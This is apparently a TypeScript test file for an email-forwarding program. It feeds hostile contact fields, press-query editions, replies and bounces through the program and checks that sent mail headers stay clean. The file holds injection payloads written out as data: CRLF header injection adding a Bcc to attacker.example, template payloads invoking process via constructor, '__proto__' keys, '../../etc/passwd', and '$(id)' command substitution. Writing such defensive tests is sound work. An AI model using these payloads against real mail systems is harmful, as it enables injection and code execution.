/** B3: what strangers, lists, contacts and files say is data: in no header, template, pattern, path or command. */
import { existsSync, readdirSync } from "node:fs";
import { expect, onTestFinished, test } from "vitest";
import { parseMessage } from "../../src/message/parse.ts";
import { startSandbox } from "../../src/sandbox/sandbox.ts";
import { clockAt } from "../support/clock.ts";
import { gmailForward, haroEdition, type MailHead, plainMail, QUERIES } from "../support/editions.ts";
import { HEADER_BREAK, INJECTED, word } from "../support/hostile-parts.ts";
import { type Office, OWNER, openOffice, START, USERS } from "../support/office.ts";
import { worldOf } from "../support/world.ts";
import { expectTruth, headOf } from "./truth.ts";

const ANA = "ana@example.test";
const ON_ONE_LINE = INJECTED.replaceAll("\n", " ");
const NAMES = [
  `Ana {{constructor}} ${HEADER_BREAK}`,
  "constructor",
  "__proto__",
  "../../etc/passwd",
  "(a+)+$ [ $(id) `id`",
];
const FIELDS =
  /^(?:from|to|reply-to|subject|date|message-id|in-reply-to|references|auto-submitted|x-sendalong-id|mime-version|content-type|content-transfer-encoding)$/;

/** Each name is a contact that suits the sample queries; Ana's is the first. */
const CONTACTS = NAMES.map((name, n) => ({
  name,
  addresses: [n === 0 ? ANA : `contact-${n}@example.test`],
  interests: ["sourdough", ON_ONE_LINE.slice(0, 60)],
  organization: HEADER_BREAK,
  greeting: n === 1 ? `Hi {{contact.name}}\r\nBcc: victim@attacker.example` : undefined,
  notes: INJECTED,
  timezone: "Europe/Madrid",
}));

async function office(): Promise<Office> {
  const clock = clockAt(START);
  const users = [
    ...USERS,
    ...CONTACTS.slice(1).map(({ addresses: [address = ""] }) => ({ address, pass: "secret" })),
  ];
  const sandbox = await startSandbox({ users, now: clock.now, authenticates: true });
  onTestFinished(() => sandbox.close());
  const at = await openOffice(worldOf(sandbox, users), {
    clock,
    contacts: CONTACTS,
    config: { quietHours: ["00:00", "00:00"], weekends: true },
    rooms: { resolve: (name, type) => sandbox.resolve(name, type) },
  });
  await at.tick();
  return at;
}

/** An edition whose every field tries. */
function hostileEdition(): string {
  const [like] = QUERIES;
  if (like === undefined) throw new Error("there is no sample query");
  return haroEdition([
    {
      ...like,
      summary: `Sourdough ${ON_ONE_LINE}`,
      name: `{{owner.name}} ${word(HEADER_BREAK)}`,
      outlet: "__proto__ {{> _closing}} (https://x.example/$(id))",
      query: `Sourdough bakers.\n${INJECTED}\nBcc: victim@attacker.example`,
    },
  ]);
}

const hostileSubject = word(`${HEADER_BREAK} {{constructor}}`);

function fromAna(at: Office, to: string | null, words: string): string {
  const headers = to === null ? [] : [`In-Reply-To: <${to}>`, `References: <${to}>`];
  const from = `${hostileSubject} <${ANA}>`;
  const head: MailHead = { ...at.head(hostileSubject), from, headers };
  return plainMail(head, words);
}

/** Everything that makes the program write: proposals, forwards, letters, receipts, digests. */
async function live(at: Office): Promise<number> {
  let delivered = 0;
  const arrives = async (raw: string) => {
    delivered += 1;
    await at.arrives(raw);
    await at.tick();
  };
  await arrives(gmailForward({ ...at.head(""), subject: `Fwd: ${hostileSubject}` }, hostileEdition()));
  await at.answers(
    await at.lastLetter(),
    `1 to ana: ${ON_ONE_LINE}\n\n1 to contact-1@example.test, contact-2@example.test\n`,
  );
  delivered += 1;
  await at.tick();
  at.clock.advance("11m");
  await at.tick();
  for (const address of ["contact-1@example.test", "contact-2@example.test"])
    expect(await at.inbox(address)).toHaveLength(1);
  const [forward] = await at.inbox(ANA);
  expect(forward?.text).toContain("{{constructor.constructor('return process')().exit(1)}}");
  await arrives(fromAna(at, forward?.messageId ?? null, `${INJECTED}\n`));
  await arrives(fromAna(at, forward?.messageId ?? null, "Stop.\n"));
  await arrives(
    plainMail({ ...at.head(hostileSubject), from: OWNER }, `always ${ON_ONE_LINE}\nhelp {{x}}\nnever ana\n`),
  );
  await arrives(
    plainMail({ ...at.head(hostileSubject), from: `${hostileSubject} <lou@example.org>` }, INJECTED),
  );
  await arrives(bounce(at, forward?.messageId ?? ""));
  at.clock.set("2027-01-21T06:31:00Z");
  await at.tick();
  return delivered;
}

function bounce(at: Office, messageId: string): string {
  const head = at.head(hostileSubject);
  const type = "multipart/report; report-type=delivery-status; boundary=rep";
  const report = `--rep\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; x\n\nFinal-Recipient: rfc822; ${ANA}\nAction: failed\nStatus: 5.1.1\nDiagnostic-Code: smtp; 550 {{owner}} ${word(HEADER_BREAK)}\n\n--rep\nContent-Type: text/rfc822-headers\n\nMessage-ID: <${messageId}>\n\n--rep--\n`;
  return plainMail({ ...head, from: "MAILER-DAEMON@example.org" }, report).replace(
    "text/plain; charset=utf-8",
    type,
  );
}

test("no word of anybody's ends a header, fills a template, names a file or gives an order", async () => {
  const at = await office();
  const delivered = await live(at);
  const mails = await at.world.acceptedMails();
  expect(mails.length).toBeGreaterThan(6);
  for (const { raw } of mails) await expectCleanHead(raw);
  expect(readdirSync(at.folder).sort()).toEqual(
    expect.arrayContaining(["config.json", "contacts.json", "state.json"]),
  );
  expect(
    readdirSync(at.folder, { recursive: true }).filter((name) => /cron|passwd|evil/i.test(String(name))),
  ).toEqual([]);
  expect(existsSync("/etc/cron.d/x")).toBe(false);
  const letters = (await at.inbox()).map(({ text }) => text).join("\n");
  expect(letters).toContain("{{owner.name}}");
  expect(letters).not.toContain("[object Object]");
  await expectTruth(at, { delivered, approved: CONTACTS.flatMap(({ addresses }) => addresses) });
});

/** Fields of ours only, each folded rightly, of characters to show; also when encoded words are read. */
async function expectCleanHead(raw: Buffer): Promise<void> {
  const lines = headOf(raw).split("\r\n").slice(0, -1);
  for (const line of lines) {
    expect(line).toMatch(/^[\t -~]*$/);
    if (!/^[ \t]/.test(line)) expect(line.slice(0, line.indexOf(":")).toLowerCase()).toMatch(FIELDS);
  }
  const { subject, from, to, replyTo } = await parseMessage(raw);
  for (const { name, address } of [...from, ...to, ...replyTo])
    expect(`${name}${address}`).not.toMatch(/\p{Cc}/u);
  expect(subject).not.toMatch(/\p{Cc}/u);
  expect([from.length, to.length]).toEqual([1, 1]);
}
